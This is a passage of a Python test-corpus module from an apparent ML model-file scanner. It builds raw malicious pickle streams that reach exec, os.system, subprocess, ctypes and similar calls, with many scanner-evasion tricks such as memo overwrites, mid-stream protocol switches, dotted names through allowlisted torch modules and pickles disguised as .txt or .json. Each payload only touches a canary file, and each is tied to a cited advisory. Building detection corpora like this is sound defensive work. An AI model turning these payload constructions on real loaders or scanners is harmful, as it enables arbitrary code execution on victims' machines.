"""Raw pickle streams: every opcode-level technique a scanner must see through."""

from __future__ import annotations

import base64
import marshal
import os
import pickle
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

from trainwarden.drill._scan_corpus._base import (
    _bytes_sample,
    _Clean,
    _evil,
    _Mal,
    _write,
    code_of,
    exec_payload,
    p4,
)
from trainwarden.drill._scan_corpus._common import (
    _np_random,
    _npy_object_bytes,
    _py_random,
    _torch_evil_zip,
)
from trainwarden.drill._scan_corpus.asm import (
    BUILD,
    EMPTY_DICT,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    NEWOBJ_EX,
    NONE,
    P2,
    P4,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    TUPLE2,
    bint,
    bu8,
    call,
    g,
    sbytes,
    sg,
    su,
    uni,
)


def _proto_n(n: int) -> Callable[[Path], bytes]:
    def f(c: Path) -> bytes:
        return pickle.dumps(_evil(c), protocol=n)

    return f


def _stack_global_from_memo(c: Path) -> bytes:
    # picklescan#22 (ImaginaryCTF "Safe Pickle"): the strings reach STACK_GLOBAL through the memo.
    return p4(
        su("builtins")
        + b"q\x01"
        + POP
        + su("exec")
        + b"q\x02"
        + POP
        + su("os")
        + su("getcwd")
        + b"h\x01h\x02"
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
        + POP
        + POP
        + POP
        + NONE
    )


def _stack_global_memoize_long(c: Path) -> bytes:
    return p4(
        su("collections")
        + MEMOIZE
        + POP
        + su("OrderedDict")
        + MEMOIZE
        + POP
        + bu8("builtins")
        + MEMOIZE
        + bu8("exec")
        + MEMOIZE
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
    )


def _stack_global_from_opcode(push: Callable[[str], bytes]) -> Callable[[Path], bytes]:
    def f(c: Path) -> bytes:
        return P4 + push("builtins") + push("exec") + STACK_GLOBAL + su(code_of(c)) + b"\x85R."

    return f


def _push_binunicode(s: str) -> bytes:
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b


def _push_string(s: str) -> bytes:
    # STRING is decoded with the unpickler's encoding (ASCII by default) into a str.
    return b"S'" + s.encode() + b"'\n"


def _push_short_binstring(s: str) -> bytes:
    return b"U" + bytes([len(s)]) + s.encode()


def _push_binstring(s: str) -> bytes:
    return b"T" + struct.pack("<I", len(s)) + s.encode()


def _global_proto0(c: Path) -> bytes:
    return g("os", "system") + MARK + uni(f"touch {c}") + b"tR."


def _global_posix_system(c: Path) -> bytes:
    return P2 + call(g("posix", "system"), su(f"touch {c}")) + STOP


def _inst(c: Path) -> bytes:
    return MARK + uni(code_of(c)) + b"ibuiltins\nexec\n."


def _obj(c: Path) -> bytes:
    return P2 + MARK + g("builtins", "exec") + su(code_of(c)) + b"o."


def _newobj_partial(c: Path) -> bytes:
    # functools.partial does its work in __new__, so NEWOBJ alone builds exec-with-args.
    return p4(
        sg("functools", "partial")
        + sg("builtins", "exec")
        + su(code_of(c))
        + TUPLE2
        + NEWOBJ
        + EMPTY_TUPLE
        + REDUCE
    )


def _newobj_ex_partial(c: Path) -> bytes:
    return p4(
        sg("functools", "partial")
        + sg("builtins", "exec")
        + su(code_of(c))
        + TUPLE2
        + EMPTY_DICT
        + NEWOBJ_EX
        + EMPTY_TUPLE
        + REDUCE
    )


def _build_setstate_injection(c: Path) -> bytes:
    # BUILD #1 puts exec into the instance __dict__ as __setstate__; BUILD #2 then calls it.
    return p4(
        call(sg("argparse", "Namespace"))
        + EMPTY_DICT
        + su("__setstate__")
        + sg("builtins", "exec")
        + SETITEM
        + BUILD
        + su(code_of(c))
        + BUILD
    )


def _ext(code: int, width: int) -> Callable[[Path], bytes]:
    op = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[width]
    fmt = {1: "<B", 2: "<H", 4: "<i"}[width]

    def f(c: Path) -> bytes:
        return p4(op + struct.pack(fmt, code) + su(code_of(c)) + TUPLE1 + REDUCE)

    return f


def _binpersid_reduce(c: Path) -> bytes:
    # The persistent id tuple is built by REDUCE before persistent_load ever sees it.
    return P2 + exec_payload(c) + TUPLE1 + b"Q." + b""


def _persid_after_payload(c: Path) -> bytes:
    return P2 + exec_payload(c) + POP + b"P0\n."


def _memo_get_undefined(c: Path) -> bytes:
    return P4 + exec_payload(c) + POP + b"h\x63" + STOP


def _frame_understated(c: Path) -> bytes:
    body = exec_payload(c) + STOP
    return P4 + b"\x95" + struct.pack("<Q", 4) + body


def _frame_zero_then_payload(c: Path) -> bytes:
    body = exec_payload(c) + STOP
    return P4 + b"\x95" + struct.pack("<Q", 0) + b"\x95" + struct.pack("<Q", len(body)) + body


def _two_pickles(c: Path) -> bytes:
    return pickle.dumps({"epoch": 3, "lr": 0.1}, protocol=2) + pickle.dumps(_evil(c), protocol=2)


def _garbage_after_stop(c: Path) -> bytes:
    return pickle.dumps(_evil(c), protocol=4) + b"\xff\xfe garbage \x00" * 8


def _invalid_opcode_after_payload(c: Path) -> bytes:
    return P4 + exec_payload(c) + b"\xff\xfe\xfd"


def _truncated_after_payload(c: Path) -> bytes:
    return P4 + exec_payload(c)


def _builtin_fix_imports(c: Path) -> bytes:
    return P2 + call(g("__builtin__", "eval"), su(code_of(c))) + STOP


def _copy_reg_reconstructor(c: Path) -> bytes:
    # copy_reg (fix_imports -> copyreg)._reconstructor runs base.__init__(obj, state).
    return (
        P2
        + call(
            g("copy_reg", "_reconstructor"),
            g("subprocess", "Popen"),
            g("subprocess", "Popen"),
            b"]" + MARK + su("touch") + su(str(c)) + b"e",
        )
        + STOP
    )


def _dotted(module: str, name: str, arg: Callable[[Path], str]) -> Callable[[Path], bytes]:
    def f(c: Path) -> bytes:
        return p4(call(sg(module, name), su(arg(c))))

    return f


def _touch(c: Path) -> str:
    return f"touch {c}"


def _getattr_import_chain(c: Path) -> bytes:
    return p4(
        call(
            call(
                sg("builtins", "getattr"),
                call(sg("builtins", "__import__"), su("os")),
                su("system"),
            ),
            su(_touch(c)),
        )
    )


def _getattr_from_memo(c: Path) -> bytes:
    ga = sg("builtins", "getattr") + b"q\x07"
    inner = call(b"h\x07", call(sg("importlib", "import_module"), su("os")), su("system"))
    return p4(ga + POP + call(inner, su(_touch(c))))


def _operator_attrgetter(c: Path) -> bytes:
    getter = call(sg("operator", "attrgetter"), su("system"))
    return p4(call(call(getter, call(sg("importlib", "import_module"), su("os"))), su(_touch(c))))


def _underscore_operator_attrgetter(c: Path) -> bytes:
    getter = call(sg("_operator", "attrgetter"), su("path.os.system"))
    return p4(call(call(getter, call(sg("importlib", "import_module"), su("os"))), su(_touch(c))))


def _operator_methodcaller(c: Path) -> bytes:
    path = call(sg("pathlib", "PosixPath"), su(str(c)))
    return p4(call(call(sg("operator", "methodcaller"), su("touch")), path))


def _functools_partial(c: Path) -> bytes:
    part = call(sg("functools", "partial"), sg("builtins", "exec"), su(code_of(c)))
    return p4(call(part))


def _importlib_import_module(c: Path) -> bytes:
    mod = call(sg("importlib", "import_module"), su("os"))
    return p4(call(call(sg("builtins", "getattr"), mod, su("system")), su(_touch(c))))


def _pkgutil_resolve_name(c: Path) -> bytes:
    return p4(call(call(sg("pkgutil", "resolve_name"), su("os:system")), su(_touch(c))))


def _functiontype_marshal(c: Path) -> bytes:
    code = marshal.dumps(compile(code_of(c), "<payload>", "exec"))
    fn = call(sg("types", "FunctionType"), call(sg("marshal", "loads"), sbytes(code)), EMPTY_DICT)
    return p4(call(fn))


def _runpy_run_code(c: Path) -> bytes:
    return p4(call(sg("runpy", "_run_code"), su(code_of(c)), EMPTY_DICT))


def _methodcall(obj: bytes, method: str, *args: bytes) -> bytes:
    return call(call(sg("operator", "methodcaller"), su(method), *args), obj)


def _bdb_run(c: Path) -> bytes:
    return p4(_methodcall(call(sg("bdb", "Bdb")), "run", su(code_of(c))))


def _cprofile_run(c: Path) -> bytes:
    return p4(call(sg("cProfile", "run"), su(code_of(c))))


def _profile_run(c: Path) -> bytes:
    return p4(call(sg("profile", "run"), su(code_of(c))))


def _timeit(c: Path) -> bytes:
    return p4(
        call(
            sg("timeit", "timeit"), su("pass"), su(code_of(c)), sg("time", "perf_counter"), bint(1)
        )
    )


def _trace_run(c: Path) -> bytes:
    return p4(_methodcall(call(sg("trace", "Trace"), bint(0), bint(0)), "run", su(code_of(c))))


def _pdb_run(c: Path) -> bytes:
    return p4(call(sg("pdb", "run"), su(code_of(c))))


def _code_interp(c: Path) -> bytes:
    return p4(_methodcall(call(sg("code", "InteractiveInterpreter")), "runsource", su(code_of(c))))


def _ctypes_system(c: Path) -> bytes:
    libc = call(sg("ctypes", "CDLL"), NONE)
    return p4(call(call(sg("builtins", "getattr"), libc, su("system")), sbytes(_touch(c).encode())))


def _asyncio_subprocess(c: Path) -> bytes:
    coro = call(sg("asyncio", "create_subprocess_exec"), su("touch"), su(str(c)))
    return p4(call(sg("asyncio", "run"), coro))


def _pty_spawn(c: Path) -> bytes:
    return p4(call(sg("pty", "spawn"), b"]" + MARK + su("touch") + su(str(c)) + b"e"))


def _posixsubprocess(c: Path) -> bytes:
    # Python 3.11 signature of _posixsubprocess.fork_exec (23 positional arguments); close_fds is
    # off so the error pipe (memoised os.pipe()) stays open without listing it in fds_to_keep.
    args = (
        b"]" + MARK + sbytes(b"touch") + sbytes(str(c).encode()) + b"e",
        b"]" + MARK + sbytes(b"/usr/bin/touch") + sbytes(b"/bin/touch") + b"e",
        b"\x89",
        EMPTY_TUPLE,
        NONE,
        NONE,
        bint(-1),
        bint(-1),
        bint(-1),
        bint(-1),
        bint(-1),
        bint(-1),
        call(sg("_operator", "getitem"), call(sg("os", "pipe")) + b"q\x09", bint(0)),
        call(sg("_operator", "getitem"), b"h\x09", bint(1)),
        b"\x88",
        b"\x89",
        bint(-1),
        NONE,
        NONE,
        NONE,
        bint(-1),
        NONE,
        b"\x89",
    )
    return p4(call(sg("_posixsubprocess", "fork_exec"), *args))


def _pip_main(c: Path) -> bytes:
    lst = b"]" + MARK + su("--log") + su(str(c)) + su("config") + su("list") + b"e"
    return p4(call(sg("pip", "main"), lst))


def _ensurepip_run_pip(c: Path) -> bytes:
    lst = b"]" + MARK + su("--log") + su(str(c)) + su("config") + su("list") + b"e"
    return p4(call(sg("ensurepip", "_run_pip"), lst))


def _numpy_runstring(c: Path) -> bytes:
    return p4(call(sg("numpy.testing._private.utils", "runstring"), su(code_of(c)), EMPTY_DICT))


def _torch_load_nested(c: Path) -> bytes:
    inner = _torch_evil_zip(c)
    bio = call(sg("_io", "BytesIO"), sbytes(inner))
    return p4(call(sg("torch", "load"), bio, NONE, sg("torch.serialization", "pickle")))


def _torch_load_from_bytes(c: Path) -> bytes:
    return p4(call(sg("torch.storage", "_load_from_bytes"), sbytes(_torch_evil_zip(c))))


def _numpy_load_nested(c: Path) -> bytes:
    bio = call(sg("_io", "BytesIO"), sbytes(_npy_object_bytes(c)))
    return p4(call(sg("numpy", "load"), bio, NONE, b"\x88"))


def _joblib_load_nested(c: Path) -> bytes:
    bio = call(sg("_io", "BytesIO"), sbytes(pickle.dumps(_evil(c), protocol=4)))
    return p4(call(sg("joblib", "load"), bio))


def _pickle_loads_nested(c: Path) -> bytes:
    return p4(call(sg("pickle", "loads"), sbytes(pickle.dumps(_evil(c), protocol=4))))


def _pickle_loads_base64(c: Path) -> bytes:
    enc = base64.b64encode(pickle.dumps(_evil(c), protocol=2))
    return p4(call(sg("_pickle", "loads"), call(sg("base64", "b64decode"), sbytes(enc))))


def _shutil_copyfile(c: Path) -> bytes:
    return p4(call(sg("shutil", "copyfile"), su(os.devnull), su(str(c))))


def _os_mkdir(c: Path) -> bytes:
    return p4(call(sg("os", "mkdir"), su(str(c))))


def _os_open_creat(c: Path) -> bytes:
    return p4(call(sg("os", "open"), su(str(c)), bint(os.O_CREAT | os.O_WRONLY)))


def _io_fileio(c: Path) -> bytes:
    return p4(call(sg("_io", "FileIO"), su(str(c)), su("w")))


def _builtins_open(c: Path) -> bytes:
    return p4(call(sg("builtins", "open"), su(str(c)), su("w")))


def _socket_bind(c: Path) -> bytes:
    sock = call(sg("socket", "socket"), bint(1))
    return p4(_methodcall(sock, "bind", su(str(c))))


def _webbrowser(c: Path) -> bytes:
    browser = call(
        sg("webbrowser", "GenericBrowser"), b"]" + MARK + su("touch") + su(str(c)) + b"e"
    )
    return p4(_methodcall(browser, "open", su("about:blank")))


def _urlretrieve(c: Path) -> bytes:
    return p4(call(sg("urllib.request", "urlretrieve"), su("file://" + os.devnull), su(str(c))))


def _eval_compile(c: Path) -> bytes:
    code = call(sg("builtins", "compile"), su(code_of(c)), su("<s>"), su("exec"))
    return p4(call(sg("builtins", "eval"), code))


def _sys_modules_getitem(c: Path) -> bytes:
    mods = sg("sys", "modules")
    os_mod = call(sg("_operator", "getitem"), mods, su("os"))
    return p4(call(call(sg("builtins", "getattr"), os_mod, su("system")), su(_touch(c))))


def _subprocess_popen(c: Path) -> bytes:
    return p4(call(sg("subprocess", "Popen"), b"]" + MARK + su("touch") + su(str(c)) + b"e"))


def _subprocess_check_output(c: Path) -> bytes:
    return p4(call(sg("subprocess", "check_output"), b"]" + MARK + su("touch") + su(str(c)) + b"e"))


def _os_popen(c: Path) -> bytes:
    return p4(call(sg("os", "popen"), su(_touch(c))))


def _posix_spawnp(c: Path) -> bytes:
    argv = b"]" + MARK + su("touch") + su(str(c)) + b"e"
    return p4(call(sg("os", "posix_spawnp"), su("touch"), argv, EMPTY_DICT))


def _doctest(c: Path) -> bytes:
    return p4(
        call(sg("doctest", "run_docstring_examples"), su(">>> " + code_of(c) + "\n"), EMPTY_DICT)
    )


def _venv_create(c: Path) -> bytes:
    return p4(call(sg("venv", "create"), su(str(c))))


def _mailcap_findmatch(c: Path) -> bytes:
    caps = (
        EMPTY_DICT
        + su("text/plain")
        + b"]"
        + EMPTY_DICT
        + su("view")
        + su("true")
        + SETITEM
        + su("test")
        + su(_touch(c))
        + SETITEM
        + b"a"
        + SETITEM
    )
    return p4(call(sg("mailcap", "findmatch"), caps, su("text/plain")))


def _rebuild_tensor_decoy(c: Path) -> bytes:
    # An allowlisted-looking torch global first, then the payload: scanners that stop at the
    # first "known" global or trust a torch prefix miss the second call.
    return p4(
        call(sg("collections", "OrderedDict"))
        + POP
        + call(sg("torch._utils", "_rebuild_parameter"), NONE, b"\x89", EMPTY_DICT)
        + POP
        + exec_payload(c)
    )


def _reduce_in_dict_value(c: Path) -> bytes:
    return p4(
        EMPTY_DICT
        + su("state_dict")
        + call(sg("collections", "OrderedDict"))
        + SETITEM
        + su("optimizer")
        + exec_payload(c)
        + SETITEM
    )


def _memo_put_overwrite(c: Path) -> bytes:
    # Keys 1 and 2 first hold a harmless name, then are PUT again: the unpickler uses the last.
    return p4(
        su("collections")
        + b"q\x01"
        + POP
        + su("OrderedDict")
        + b"q\x02"
        + POP
        + su("builtins")
        + b"q\x01"
        + POP
        + su("exec")
        + b"q\x02"
        + POP
        + b"h\x01h\x02"
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
    )


def _memoize_after_sparse_binput(c: Path) -> bytes:
    # MEMOIZE stores at len(memo), not at max(key) + 1 or at a count of MEMOIZE opcodes.
    return p4(
        su("collections")
        + b"q\x00"
        + POP
        + su("OrderedDict")
        + b"q\x07"
        + POP
        + su("builtins")
        + MEMOIZE
        + POP
        + su("exec")
        + MEMOIZE
        + POP
        + b"h\x02h\x03"
        + STACK_GLOBAL
        + su(code_of(c))
        + TUPLE1
        + REDUCE
    )


def _proto_switch_fix_imports(c: Path) -> bytes:
    # A second PROTO opcode mid-stream lowers the protocol, which turns fix_imports back on.
    inner = pickle.dumps(_evil(c), protocol=2)
    return P4 + NONE + POP + P2 + call(g("cPickle", "loads"), sbytes(inner)) + STOP


def _proto_switch_dotted(c: Path) -> bytes:
    # Dotted names only resolve at protocol >= 4; the stream starts at 2 and switches to 4.
    return P2 + NONE + POP + P4 + call(sg("pathlib", "os.system"), su(_touch(c))) + STOP


def _fix_imports_commands(c: Path) -> bytes:
    return P2 + call(g("commands", "getoutput"), su(_touch(c))) + STOP


def _fix_imports_urllib(c: Path) -> bytes:
    return P2 + call(g("urllib", "urlretrieve"), su("file://" + os.devnull), su(str(c))) + STOP


def _dotted_allowlisted_module(c: Path) -> bytes:
    inner = _torch_evil_zip(c)
    return p4(call(sg("torch.nn.modules.linear", "torch.storage._load_from_bytes"), sbytes(inner)))


def _dup_global(c: Path) -> bytes:
    return p4(sg("builtins", "exec") + b"2" + POP + su(code_of(c)) + TUPLE1 + REDUCE)


def _next_buffer_after_payload(c: Path) -> bytes:
    return b"\x80\x05" + exec_payload(c) + POP + b"\x97" + STOP


def _pdump(obj_fn: Callable[[], Any], protocol: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        _write(path, pickle.dumps(obj_fn(), protocol=protocol))

    return build


def _np_arrays() -> Any:
    import numpy as np

    return {
        "f32": np.arange(6, dtype=np.float32).reshape(2, 3),
        "i64": np.arange(3),
        "bool": np.array([True, False]),
        "scalar": np.float64(2.5),
        "int": np.int32(3),
        "dtype": np.dtype("float16"),
        "structured": np.zeros(2, dtype=[("a", "<i4"), ("b", "<f8")]),
    }


def _np_datetime() -> Any:
    import numpy as np

    return {
        "dt": np.array(["2024-01-01", "2024-06-30"], dtype="datetime64[D]"),
        "td": np.timedelta64(5, "s"),
        "scalar": np.datetime64("2024-01-01T12:00"),
    }


def _stdlib_objects() -> Any:
    import argparse
    import collections
    import datetime
    import decimal
    import fractions
    import pathlib

    return {
        "args": argparse.Namespace(lr=0.1, epochs=3, name="run"),
        "path": pathlib.PurePosixPath("/data/train"),
        "ppath": pathlib.PosixPath("/data/val"),
        "when": datetime.datetime(2024, 1, 2, 3, 4, 5, tzinfo=datetime.timezone.utc),
        "date": datetime.date(2024, 1, 2),
        "delta": datetime.timedelta(hours=1),
        "dec": decimal.Decimal("1.25"),
        "frac": fractions.Fraction(3, 7),
        "od": collections.OrderedDict(a=1),
        "dd": collections.defaultdict(list, {"x": [1]}),
        "counter": collections.Counter("aab"),
        "deque": collections.deque([1, 2]),
        "set": {1, 2},
        "frozen": frozenset({3}),
        "complex": 1 + 2j,
        "bytes": b"\x00\x01",
        "bytearray": bytearray(b"ab"),
        "tuple": (1, "a", None, True, 1.5),
        "big": 2**100,
        "slice": slice(1, 5, 2),
        "range": range(3),
    }


def _np_masked() -> Any:
    import numpy as np

    return {
        "masked": np.ma.array([1.0, 2.0, 3.0], mask=[False, True, False]),
        "matrix": np.asmatrix(np.eye(2)),
        "rec": np.rec.array([(1, 2.0)], dtype=[("a", "i4"), ("b", "f8")]),
    }


def _opcode_encodings() -> list[_Mal]:
    """How the call is encoded: every opcode that imports a global or calls one."""
    b = _bytes_sample
    return [
        _Mal(
            "global_os_system_protocol0",
            ".pkl",
            "text GLOBAL os.system + REDUCE",
            "fickling README / Trail of Bits 'Never a dill moment'",
            b(_global_proto0),
        ),
        _Mal(
            "global_posix_system",
            ".pkl",
            "GLOBAL posix.system (os.system's real module)",
            "CVE-2025-10155 / ModelAudit PR #605 posix.system",
            b(_global_posix_system),
        ),
        _Mal(
            "stack_global_memo_strings",
            ".pkl",
            "STACK_GLOBAL whose strings come from BINGET of the memo",
            "picklescan issue #22 (ImaginaryCTF Safe Pickle)",
            b(_stack_global_from_memo),
        ),
        _Mal(
            "stack_global_memoize_binunicode8",
            ".pkl",
            "STACK_GLOBAL fed by BINUNICODE8 strings with MEMOIZE in between",
            "picklescan GHSA-9gvj-pp9x-gcfr (parsing logic flaw)",
            b(_stack_global_memoize_long),
        ),
        _Mal(
            "stack_global_binunicode",
            ".pkl",
            "STACK_GLOBAL fed by BINUNICODE",
            "pickletools opcode table",
            b(_stack_global_from_opcode(_push_binunicode)),
        ),
        _Mal(
            "stack_global_unicode_text",
            ".pkl",
            "STACK_GLOBAL fed by protocol-0 UNICODE lines",
            "CPython _pickle accepts any str for STACK_GLOBAL",
            b(_stack_global_from_opcode(uni)),
        ),
        _Mal(
            "stack_global_string_opcode",
            ".pkl",
            "STACK_GLOBAL fed by STRING decoded to str",
            "CPython _pickle load_string",
            b(_stack_global_from_opcode(_push_string)),
        ),
        _Mal(
            "stack_global_short_binstring",
            ".pkl",
            "STACK_GLOBAL fed by SHORT_BINSTRING",
            "CPython _pickle load_counted_binstring",
            b(_stack_global_from_opcode(_push_short_binstring)),
        ),
        _Mal(
            "stack_global_binstring",
            ".pkl",
            "STACK_GLOBAL fed by BINSTRING",
            "CPython _pickle load_counted_binstring",
            b(_stack_global_from_opcode(_push_binstring)),
        ),
        _Mal(
            "inst_opcode_exec",
            ".pkl",
            "INST builtins.exec (class + call in one opcode)",
            "pickletools INST; fickling issue on INST handling",
            b(_inst),
        ),
        _Mal(
            "obj_opcode_exec",
            ".pkl",
            "OBJ with builtins.exec as the 'class'",
            "CPython _pickle load_obj -> instantiate",
            b(_obj),
        ),
        _Mal(
            "newobj_functools_partial",
            ".pkl",
            "NEWOBJ builds functools.partial(exec, code)",
            "fickling PR #210 (functools.partial wrapper bypass)",
            b(_newobj_partial),
        ),
        _Mal(
            "newobj_ex_functools_partial",
            ".pkl",
            "NEWOBJ_EX builds functools.partial(exec, code)",
            "pickletools NEWOBJ_EX",
            b(_newobj_ex_partial),
        ),
        _Mal(
            "build_setstate_injection",
            ".pkl",
            "BUILD puts exec into __dict__['__setstate__'], second BUILD calls it",
            "Trail of Bits 'Exploiting ML pickle files' (BUILD/__setstate__)",
            b(_build_setstate_injection),
        ),
        _Mal(
            "ext1_extension_registry",
            ".pkl",
            "EXT1 code resolved through copyreg's extension registry",
            "pickletools EXT1 / copyreg.add_extension",
            b(_ext(0xF0, 1)),
            trigger="pickle_ext:240",
        ),
        _Mal(
            "ext2_extension_registry",
            ".pkl",
            "EXT2 code resolved through copyreg's extension registry",
            "pickletools EXT2",
            b(_ext(0x1234, 2)),
            trigger="pickle_ext:4660",
        ),
        _Mal(
            "ext4_extension_registry",
            ".pkl",
            "EXT4 code resolved through copyreg's extension registry",
            "pickletools EXT4",
            b(_ext(0x123456, 4)),
            trigger="pickle_ext:1193046",
        ),
        _Mal(
            "binpersid_pid_built_by_reduce",
            ".pkl",
            "BINPERSID whose pid is the result of exec",
            "torch legacy persistent_load receives attacker tuples",
            b(_binpersid_reduce),
        ),
        _Mal(
            "persid_after_payload",
            ".pkl",
            "payload before a PERSID the plain unpickler rejects",
            "CPython _pickle load_persid",
            b(_persid_after_payload),
        ),
    ]


def _stream_structure() -> list[_Mal]:
    """The stream around the payload: memo, frames, protocol switches, trailing data, disguises."""
    b = _bytes_sample
    return [
        _Mal(
            "memo_get_undefined_key",
            ".pkl",
            "payload then BINGET of a memo key never PUT",
            "picklescan memo handling (issue #22)",
            b(_memo_get_undefined),
        ),
        _Mal(
            "frame_length_understated",
            ".pkl",
            "FRAME declares 4 bytes, payload runs past it",
            "CPython _pickle load_frame only checks availability",
            b(_frame_understated),
        ),
        _Mal(
            "frame_zero_then_real_frame",
            ".pkl",
            "empty FRAME followed by the payload frame",
            "pickle protocol 4 PEP 3154 framing",
            b(_frame_zero_then_payload),
        ),
        _Mal(
            "two_pickles_payload_in_second",
            ".pkl",
            "clean pickle then a payload pickle in one stream",
            "torch legacy format stacks pickles; fickling --inject-target",
            b(_two_pickles),
            trigger="pickle_stream",
        ),
        _Mal(
            "garbage_after_stop",
            ".pkl",
            "payload pickle followed by garbage bytes",
            "ModelAudit/aisbom: broken tails must not hide payloads",
            b(_garbage_after_stop),
        ),
        _Mal(
            "invalid_opcode_after_payload",
            ".pkl",
            "payload REDUCE then an invalid opcode (no STOP)",
            "picklescan GHSA-9gvj-pp9x-gcfr; fickling PR #164 (malformed pickles)",
            b(_invalid_opcode_after_payload),
        ),
        _Mal(
            "truncated_after_payload",
            ".pkl",
            "stream ends right after the payload REDUCE",
            "aisbom CHANGELOG: truncated streams are scanned",
            b(_truncated_after_payload),
        ),
        _Mal(
            "memo_put_overwrite",
            ".pkl",
            "memo keys PUT twice: harmless names, then builtins/exec",
            "picklescan issue #22 (memo tracking)",
            b(_memo_put_overwrite),
        ),
        _Mal(
            "memoize_after_sparse_binput",
            ".pkl",
            "MEMOIZE index is len(memo) after sparse BINPUTs",
            "CPython _pickle load_memoize",
            b(_memoize_after_sparse_binput),
        ),
        _Mal(
            "proto_switch_midstream_fix_imports",
            ".pkl",
            "PROTO 4 then PROTO 2 mid-stream; cPickle.loads mapped by fix_imports",
            "CPython _pickle load_proto (proto may change mid-stream)",
            b(_proto_switch_fix_imports),
        ),
        _Mal(
            "proto_switch_midstream_dotted_name",
            ".pkl",
            "PROTO 2 then PROTO 4 mid-stream enables dotted pathlib.os.system",
            "CPython find_class dotted names need proto >= 4",
            b(_proto_switch_dotted),
        ),
        _Mal(
            "dup_global_then_call",
            ".pkl",
            "DUP the exec global, POP one copy, call the other",
            "pickletools DUP",
            b(_dup_global),
        ),
        _Mal(
            "next_buffer_after_payload",
            ".pkl",
            "protocol 5 NEXT_BUFFER after the payload",
            "PEP 574 out-of-band buffers",
            b(_next_buffer_after_payload),
        ),
        _Mal(
            "disguise_pickle_as_txt",
            ".txt",
            "protocol-0 pickle named notes.txt",
            "CVE-2025-10155 (JFrog: extension bypass)",
            b(lambda c: pickle.dumps(_evil(c), protocol=0)),
        ),
        _Mal(
            "disguise_pickle_as_json",
            ".json",
            "pickle named config.json",
            "CVE-2025-1889",
            b(lambda c: pickle.dumps(_evil(c), protocol=4)),
        ),
    ]


def _name_resolution() -> list[_Mal]:
    """How a name resolves: fix_imports mappings, dotted paths, attribute and import chains."""
    b = _bytes_sample
    gh = "https://github.com/mmaitre314/picklescan/security/advisories/"
    return [
        _Mal(
            "fix_imports___builtin___eval",
            ".pkl",
            "__builtin__.eval mapped by fix_imports",
            "ModelAudit PR #241 (__builtin__ variants)",
            b(_builtin_fix_imports),
        ),
        _Mal(
            "copy_reg_reconstructor_popen",
            ".pkl",
            "copy_reg._reconstructor(Popen, Popen, argv) runs Popen.__init__",
            "copyreg._reconstructor semantics; fix_imports copy_reg",
            b(_copy_reg_reconstructor),
        ),
        _Mal(
            "dotted_pathlib_os_system",
            ".pkl",
            "STACK_GLOBAL pathlib + 'os.system' attribute path",
            "CPython find_class dotted names (protocol 4)",
            b(_dotted("pathlib", "os.system", _touch)),
        ),
        _Mal(
            "dotted_argparse__os_system",
            ".pkl",
            "STACK_GLOBAL argparse + '_os.system'",
            "picklescan issue #66 (attribute chains)",
            b(_dotted("argparse", "_os.system", _touch)),
        ),
        _Mal(
            "dotted_torch_serialization_os_system",
            ".pkl",
            "STACK_GLOBAL torch.serialization + 'os.system' (torch prefix allowlists)",
            "picklescan issue #66; allowlist-by-prefix bypass",
            b(_dotted("torch.serialization", "os.system", _touch)),
        ),
        _Mal(
            "dotted_builtins_getattr_chain",
            ".pkl",
            "getattr(__import__('os'), 'system')",
            "picklescan GHSA-655q-fx9r-782v",
            b(_getattr_import_chain),
        ),
        _Mal(
            "getattr_from_memo",
            ".pkl",
            "builtins.getattr memoised once, called via BINGET",
            "picklescan issue #22 (memo)",
            b(_getattr_from_memo),
        ),
        _Mal(
            "operator_attrgetter",
            ".pkl",
            "operator.attrgetter('system')(os)",
            gh + "GHSA-m273-6v24-x4m4",
            b(_operator_attrgetter),
        ),
        _Mal(
            "_operator_attrgetter_dotted",
            ".pkl",
            "_operator.attrgetter('path.os.system')",
            gh + "GHSA-955r-x9j8-7rhh",
            b(_underscore_operator_attrgetter),
        ),
        _Mal(
            "operator_methodcaller_touch",
            ".pkl",
            "operator.methodcaller('touch')(PosixPath(canary))",
            gh + "GHSA-46h3-79wf-xr6c",
            b(_operator_methodcaller),
        ),
        _Mal(
            "functools_partial_exec",
            ".pkl",
            "functools.partial(exec, code)()",
            "fickling PR #210",
            b(_functools_partial),
        ),
        _Mal(
            "importlib_import_module",
            ".pkl",
            "importlib.import_module('os') + getattr",
            "picklescan PR #74 (importlib bypass)",
            b(_importlib_import_module),
        ),
        _Mal(
            "pkgutil_resolve_name",
            ".pkl",
            "pkgutil.resolve_name('os:system')",
            gh + "GHSA-vvpj-8cmc-gx39",
            b(_pkgutil_resolve_name),
        ),
        _Mal(
            "fix_imports_commands_getoutput",
            ".pkl",
            "commands.getoutput -> subprocess.getoutput",
            "CPython _compat_pickle.IMPORT_MAPPING",
            b(_fix_imports_commands),
        ),
        _Mal(
            "fix_imports_urllib_urlretrieve",
            ".pkl",
            "urllib.urlretrieve -> urllib.request.urlretrieve",
            "CPython _compat_pickle.NAME_MAPPING",
            b(_fix_imports_urllib),
        ),
        _Mal(
            "dotted_allowlisted_torch_module_chain",
            ".pkl",
            "torch.nn.modules.linear + 'torch.storage._load_from_bytes'",
            "picklescan issue #66 (attribute chains through allowlisted modules)",
            b(_dotted_allowlisted_module),
        ),
    ]


def _dangerous_callables() -> list[_Mal]:
    """Callables that run code, spawn processes, touch files or sockets, or load nested pickles."""
    b = _bytes_sample
    gh = "https://github.com/mmaitre314/picklescan/security/advisories/"
    return [
        *[
            _Mal(
                f"reduce_exec_protocol_{n}",
                ".pkl",
                f"__reduce__ to builtins.exec, protocol {n} as written by pickle.dumps",
                "Python docs: pickle is not secure (classic __reduce__ RCE)",
                b(_proto_n(n)),
            )
            for n in range(6)
        ],
        _Mal(
            "types_functiontype_marshal_loads",
            ".pkl",
            "FunctionType(marshal.loads(code), {})()",
            "picklescan PR #74 (marshal bypass)",
            b(_functiontype_marshal),
        ),
        _Mal(
            "runpy__run_code",
            ".pkl",
            "runpy._run_code(source, {})",
            "fickling UNSAFE_IMPORTS (runpy)",
            b(_runpy_run_code),
        ),
        _Mal(
